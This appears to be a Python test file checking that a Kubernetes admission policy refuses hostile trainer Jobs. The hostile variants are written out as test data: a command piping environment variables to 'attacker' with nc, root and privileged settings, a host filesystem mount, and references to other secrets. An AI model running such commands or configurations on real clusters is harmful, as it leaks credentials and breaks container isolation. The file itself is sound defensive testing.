@@ -1,0 +1,395 @@
+"""The trainer ValidatingAdmissionPolicy: what the monitor's ServiceAccount may create.
+
+No Kubernetes API server can run here, so these tests take the exact expressions out of the rendered
+chart (matchConditions, variables, validations) and evaluate them with a real CEL implementation
+(cel-python) against the exact Job the launcher creates: the trainer-job ConfigMap's template passed
+through `services.monitor.launchers.kubernetes.stamp_job`. Variables are computed in order and handed
+to the validations as `variables`, as the API server does. Admission at runtime is not exercised:
+the API server's typed CEL, defaulting and the binding's namespace matching are only checked by
+reading the rendered objects.
+"""
+
+from __future__ import annotations
+
+import copy
+import functools
+import os
+from collections.abc import Callable
+from dataclasses import dataclass
+from types import ModuleType
+from typing import Any
+
+import pytest
+import yaml
+
+from services.monitor.launchers.kubernetes import stamp_job
+
+from .helpers import KUBE_VERSION, REPO, REQUIRED_SETS, Rendered, find_tool, helm_template, run
+
+NAMESPACE = "cali-housing"  # the namespace the `rendered` fixture renders into
+MONITOR_USER = f"system:serviceaccount:{NAMESPACE}:cali-housing-monitor"
+POLICY_SUFFIX = f"-trainer-jobs-{NAMESPACE}"
+Job = dict[str, Any]
+
+
+def cel_module() -> ModuleType:
+    """cel-python (a dev dependency): skip locally when missing, fail under CI=true, as find_tool does."""
+    try:
+        import celpy
+    except ImportError:
+        message = "cel-python not installed: pip install -e '.[dev]'"
+        if os.environ.get("CI", "").lower() == "true":
+            pytest.fail(message)
+        pytest.skip(message)
+    return celpy
+
+
+@functools.cache
+def _program(expression: str) -> Any:
+    celpy = cel_module()
+    env = celpy.Environment()
+    return env.program(env.compile(expression))
+
+
+def evaluate(expression: str, activation: dict[str, Any]) -> bool:
+    """One CEL expression; anything but a boolean (an error included) fails the test."""
+    celpy = cel_module()
+    result = _program(expression).evaluate(activation)
+    assert isinstance(result, celpy.celtypes.BoolType), f"{expression!r} gave {result!r}"
+    return bool(result)
+
+
+@dataclass(frozen=True)
+class Policy:
+    """The CEL parts of the rendered ValidatingAdmissionPolicy."""
+
+    match_conditions: list[str]
+    variables: list[tuple[str, str]]
+    validations: list[tuple[str, str]]  # (expression, message)
+
+    @classmethod
+    def of(cls, doc: dict[str, Any]) -> Policy:
+        spec = doc["spec"]
+        return cls(
+            [m["expression"] for m in spec["matchConditions"]],
+            [(v["name"], v["expression"]) for v in spec.get("variables", [])],
+            [(v["expression"], v["message"]) for v in spec["validations"]],
+        )
+
+    def matches(self, username: str) -> bool:
+        celpy = cel_module()
+        request = celpy.json_to_cel({"userInfo": {"username": username}, "operation": "CREATE"})
+        return all(evaluate(expr, {"request": request}) for expr in self.match_conditions)
+
+    def refusals(self, job: Job) -> dict[str, str]:
+        """Validations that refuse `job`, by label (the message up to its colon) -> message."""
+        celpy = cel_module()
+        activation: dict[str, Any] = {"object": celpy.json_to_cel(job)}
+        computed: dict[Any, Any] = {}
+        for name, expression in self.variables:
+            # Later variables and every validation see the earlier ones under `variables`.
+            activation["variables"] = celpy.celtypes.MapType(computed)
+            computed[celpy.celtypes.StringType(name)] = _program(expression).evaluate(activation)
+        activation["variables"] = celpy.celtypes.MapType(computed)
+        return {
+            message.split(":", 1)[0]: message
+            for expression, message in self.validations
+            if not evaluate(expression, activation)
+        }
+
+
+def trainer_template(r: Rendered) -> Job:
+    cm = r.one("ConfigMap", "-trainer-job")
+    template: Job = yaml.safe_load(cm["data"]["trainer-job.yaml"])
+    return template
+
+
+def stamped(r: Rendered) -> Job:
+    """The Job exactly as the monitor creates it."""
+    return stamp_job(trainer_template(r), 42)
+
+
+def policy_doc(r: Rendered) -> dict[str, Any]:
+    return r.one("ValidatingAdmissionPolicy", POLICY_SUFFIX)
+
+
+def pod(job: Job) -> dict[str, Any]:
+    spec: dict[str, Any] = job["spec"]["template"]["spec"]
+    return spec
+
+
+def container(job: Job) -> dict[str, Any]:
+    first: dict[str, Any] = pod(job)["containers"][0]
+    return first
+
+
+def with_monitor(rendered: dict[str, Rendered]) -> list[Rendered]:
+    return [r for r in rendered.values() if r.kind("CronJob")]
+
+
+# --- hostile variants: each takes the stamped Job and makes it into something the monitor must not create
+
+
+def other_image(job: Job) -> None:
+    container(job)["image"] = "docker.io/library/busybox:1.36"
+
+
+def lookalike_image(job: Job) -> None:
+    image = container(job)["image"]
+    repository, tag = image.rsplit(":", 1)
+    container(job)["image"] = f"{repository}-debug:{tag}"
+
+
+def release_label_dropped(job: Job) -> None:
+    # Selected by no NetworkPolicy of the release, so by no default deny either.
+    del job["spec"]["template"]["metadata"]["labels"]["housing.io/release"]
+
+
+def posing_as_inference(job: Job) -> None:
+    job["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/component"] = "inference"
+
+
+def other_command(job: Job) -> None:
+    container(job)["command"] = ["sh", "-c", "env | nc attacker 4444"]
+
+
+def other_service_account(job: Job) -> None:
+    pod(job)["serviceAccountName"] = "cali-housing-monitor"
+
+
+def no_service_account(job: Job) -> None:
+    # Pods of a template without one run as the namespace's "default" ServiceAccount.
+    del pod(job)["serviceAccountName"]
+
+
+def deprecated_service_account(job: Job) -> None:
+    pod(job)["serviceAccount"] = "default"
+
+
+def token_mounted(job: Job) -> None:
+    pod(job)["automountServiceAccountToken"] = True
+
+
+def privileged(job: Job) -> None:
+    container(job)["securityContext"]["privileged"] = True
+
+
+def privilege_escalation(job: Job) -> None:
+    container(job)["securityContext"]["allowPrivilegeEscalation"] = True
+
+
+def run_as_root_allowed(job: Job) -> None:
+    container(job)["securityContext"]["runAsNonRoot"] = False
+
+
+def no_run_as_non_root(job: Job) -> None:
+    pod(job)["securityContext"].pop("runAsNonRoot", None)
+    container(job)["securityContext"].pop("runAsNonRoot", None)
+
+
+def run_as_uid_0(job: Job) -> None:
+    pod(job)["securityContext"]["runAsUser"] = 0
+
+
+def host_path(job: Job) -> None:
+    pod(job)["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
+    container(job)["volumeMounts"].append({"name": "host", "mountPath": "/host"})
+
+
+def config_map_volume(job: Job) -> None:
+    pod(job)["volumes"].append({"name": "kube-config", "configMap": {"name": "cluster-info"}})
+
+
+def host_network(job: Job) -> None:
+    pod(job)["hostNetwork"] = True
+
+
+def host_pid(job: Job) -> None:
+    pod(job)["hostPID"] = True
+
+
+def sys_admin(job: Job) -> None:
+    container(job)["securityContext"]["capabilities"]["add"] = ["SYS_ADMIN"]
+
+
+def other_secret(job: Job) -> None:
+    ref = next(e for e in container(job)["env"] if e["name"] == "DATABASE_URL")["valueFrom"]["secretKeyRef"]
+    ref["name"] = "argocd-repo-creds"
+
+
+def other_secret_key(job: Job) -> None:
+    container(job)["env"].append(
+        {
+            "name": "STOLEN",
+            "valueFrom": {"secretKeyRef": {"name": secret_name(job), "key": "TELEGRAM_BOT_TOKEN"}},
+        }
+    )
+
+
+def env_from_secret(job: Job) -> None:
+    container(job)["envFrom"] = [{"secretRef": {"name": secret_name(job)}}]
+
+
+def init_container(job: Job) -> None:
+    # The trainer's own image and security context: only the init container itself is wrong.
+    pod(job)["initContainers"] = [{**copy.deepcopy(container(job)), "name": "setup"}]
+
+
+def secret_name(job: Job) -> str:
+    ref = next(e for e in container(job)["env"] if e["name"] == "DATABASE_URL")["valueFrom"]["secretKeyRef"]
+    name: str = ref["name"]
+    return name
+
+
+HOSTILE: list[tuple[Callable[[Job], None], set[str]]] = [
+    (other_image, {"image refused"}),
+    (lookalike_image, {"image refused"}),
+    (other_command, {"container refused"}),
+    (release_label_dropped, {"pod labels refused"}),
+    (posing_as_inference, {"pod labels refused"}),
+    (other_service_account, {"serviceAccountName refused"}),
+    (no_service_account, {"serviceAccountName refused"}),
+    (deprecated_service_account, {"serviceAccountName refused"}),
+    (token_mounted, {"automountServiceAccountToken refused"}),
+    (privileged, {"privileged refused"}),
+    (privilege_escalation, {"allowPrivilegeEscalation refused"}),
+    (run_as_root_allowed, {"runAsNonRoot refused"}),
+    (no_run_as_non_root, {"runAsNonRoot refused"}),
+    (run_as_uid_0, {"runAsUser refused"}),
+    (host_path, {"hostPath volume refused", "volume refused"}),
+    (config_map_volume, {"volume refused"}),
+    (host_network, {"host namespaces refused"}),
+    (host_pid, {"host namespaces refused"}),
+    (sys_admin, {"capabilities refused"}),
+    (other_secret, {"secretKeyRef refused"}),
+    (other_secret_key, {"secretKeyRef key refused"}),
+    (env_from_secret, {"envFrom refused"}),
+    (init_container, {"initContainers refused"}),
+]
+
+
+def test_every_scenario_with_a_monitor_renders_the_policy(rendered: dict[str, Rendered]) -> None:
+    for r in rendered.values():
+        has_monitor = bool(r.kind("CronJob"))
+        assert bool(r.kind("ValidatingAdmissionPolicy")) is has_monitor, r.name
+        assert bool(r.kind("ValidatingAdmissionPolicyBinding")) is has_monitor, r.name
+    assert not rendered["ci/minimal-values.yaml"].kind("ValidatingAdmissionPolicy"), "no monitor, no policy"
+
+
+def test_the_stamped_trainer_job_is_admitted(rendered: dict[str, Rendered]) -> None:
+    for r in with_monitor(rendered):
+        policy = Policy.of(policy_doc(r))
+        job = stamped(r)
+        assert policy.refusals(job) == {}, r.name
+        # The API server fills the deprecated serviceAccount from serviceAccountName: still admitted.
+        pod(job)["serviceAccount"] = pod(job)["serviceAccountName"]
+        assert policy.refusals(job) == {}, r.name
+
+
+@pytest.mark.parametrize(("mutate", "expected"), HOSTILE, ids=[m.__name__ for m, _ in HOSTILE])
+def test_hostile_job_is_refused_by_the_validation_that_names_it(
+    rendered: dict[str, Rendered], mutate: Callable[[Job], None], expected: set[str]
+) -> None:
+    r = rendered["prod"]
+    job = stamped(r)
+    mutate(job)
+    refused = Policy.of(policy_doc(r)).refusals(job)
+    assert set(refused) == expected, refused
+
+
+def test_refusal_messages_say_what_is_allowed(rendered: dict[str, Rendered]) -> None:
+    r = rendered["prod"]
+    messages = {m.split(":", 1)[0]: m for _, m in Policy.of(policy_doc(r)).validations}
+    job = stamped(r)
+    assert container(job)["image"].rsplit(":", 1)[0] in messages["image refused"]
+    assert pod(job)["serviceAccountName"] in messages["serviceAccountName refused"]
+    assert secret_name(job) in messages["secretKeyRef refused"]
+    for key in ("DATABASE_URL", "MLFLOW_TRACKING_PASSWORD"):
+        assert key in messages["secretKeyRef key refused"]
+    assert "TELEGRAM_BOT_TOKEN" not in messages["secretKeyRef key refused"], "the trainer reads no bot token"
+    assert "housing-home, tmp" in messages["volume refused"]
+    assert len(messages) == len(Policy.of(policy_doc(r)).validations), "one message per validation"
+
+
+def test_the_policy_applies_to_the_monitor_only(rendered: dict[str, Rendered]) -> None:
+    policy = Policy.of(policy_doc(rendered["prod"]))
+    assert policy.matches(MONITOR_USER)
+    for user in (
+        "system:serviceaccount:argocd:argocd-application-controller",
+        "system:serviceaccount:kube-system:cronjob-controller",
+        f"system:serviceaccount:{NAMESPACE}:cali-housing-trainer",
+        "system:serviceaccount:other-namespace:cali-housing-monitor",
+        "kubernetes-admin",
+    ):
+        assert not policy.matches(user), user
+
+
+def test_policy_and_binding_shape(rendered: dict[str, Rendered]) -> None:
+    r = rendered["prod"]
+    doc = policy_doc(r)
+    spec = doc["spec"]
+    assert doc["apiVersion"] == "admissionregistration.k8s.io/v1"
+    assert spec["failurePolicy"] == "Fail"
+    (rule,) = spec["matchConstraints"]["resourceRules"]
+    assert rule["apiGroups"] == ["batch"] and rule["apiVersions"] == ["v1"]
+    assert rule["resources"] == ["jobs"] and set(rule["operations"]) == {"CREATE", "UPDATE"}
+    assert len(spec["validations"]) >= 12
+    binding = r.one("ValidatingAdmissionPolicyBinding", POLICY_SUFFIX)
+    assert binding["spec"]["policyName"] == doc["metadata"]["name"]
+    assert binding["spec"]["validationActions"] == ["Deny"]
+    assert binding["spec"]["matchResources"] == {
+        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": NAMESPACE}}
+    }
+    for obj in (doc, binding):
+        labels = obj["metadata"]["labels"]
+        assert labels["app.kubernetes.io/part-of"] == "cali-housing"
+        assert labels["app.kubernetes.io/component"] == "trainer"
+
+
+def test_policy_name_is_per_namespace(tool: Callable[[str], str]) -> None:
+    # Cluster-scoped: a staging and a prod release in one cluster must not share (and fight over) it.
+    proc = helm_template(tool("helm"), REQUIRED_SETS, namespace="cali-housing-staging")
+    assert proc.returncode == 0, proc.stderr
+    docs = [d for d in yaml.safe_load_all(proc.stdout) if d]
+    (vap,) = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicy"]
+    assert vap["metadata"]["name"].endswith("-cali-housing-staging")
+    (condition,) = vap["spec"]["matchConditions"]
+    assert "system:serviceaccount:cali-housing-staging:cali-housing-monitor" in condition["expression"]
+
+
+def test_policy_can_be_turned_off(tool: Callable[[str], str]) -> None:
+    proc = helm_template(tool("helm"), [*REQUIRED_SETS, "--set", "trainer.admissionPolicy.enabled=false"])
+    assert proc.returncode == 0, proc.stderr
+    assert "ValidatingAdmissionPolicy" not in proc.stdout
+
+
+def test_a_trainer_env_from_another_secret_is_refused_at_render_time(tool: Callable[[str], str]) -> None:
+    extra = '[{"name":"X","valueFrom":{"secretKeyRef":{"name":"other-secret","key":"K"}}}]'
+    proc = helm_template(tool("helm"), [*REQUIRED_SETS, "--set-json", f"config.extraEnv={extra}"])
+    assert proc.returncode != 0
+    assert "other-secret" in proc.stderr and "trainer.admissionPolicy.enabled=false" in proc.stderr
+
+
+def test_policy_objects_match_the_kubernetes_schema(rendered: dict[str, Rendered]) -> None:
+    find_tool("kubernetes-validate")
+    r = rendered["prod"]
+    docs = [policy_doc(r), r.one("ValidatingAdmissionPolicyBinding", POLICY_SUFFIX)]
+    proc = run(["bash", "ci/k8s-validate.sh", KUBE_VERSION, "-"], stdin=yaml.safe_dump_all(docs))
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    # The check can fail: a misspelt field is refused by the strict schema.
+    broken = copy.deepcopy(docs[0])
+    broken["spec"]["validations"][0]["mesage"] = broken["spec"]["validations"][0].pop("message")
+    proc = run(["bash", "ci/k8s-validate.sh", KUBE_VERSION, "-"], stdin=yaml.safe_dump(broken))
+    assert proc.returncode != 0, proc.stdout
+
+
+def test_argocd_project_may_sync_every_rendered_kind(rendered: dict[str, Rendered]) -> None:
+    # The policy is cluster-scoped: without a clusterResourceWhitelist entry Argo CD refuses the sync.
+    project = yaml.safe_load((REPO / "argocd" / "project.yaml").read_text())["spec"]
+    cluster = {(k["group"], k["kind"]) for k in project["clusterResourceWhitelist"]}
+    namespaced = {(k["group"], k["kind"]) for k in project["namespaceResourceWhitelist"]}
+    for env in ("staging", "prod"):
+        for doc in rendered[env].docs:
+            group = doc["apiVersion"].rpartition("/")[0]
+            allowed = namespaced if doc["metadata"].get("namespace") else cluster
+            assert (group, doc["kind"]) in allowed, (env, doc["kind"], doc["metadata"]["name"])
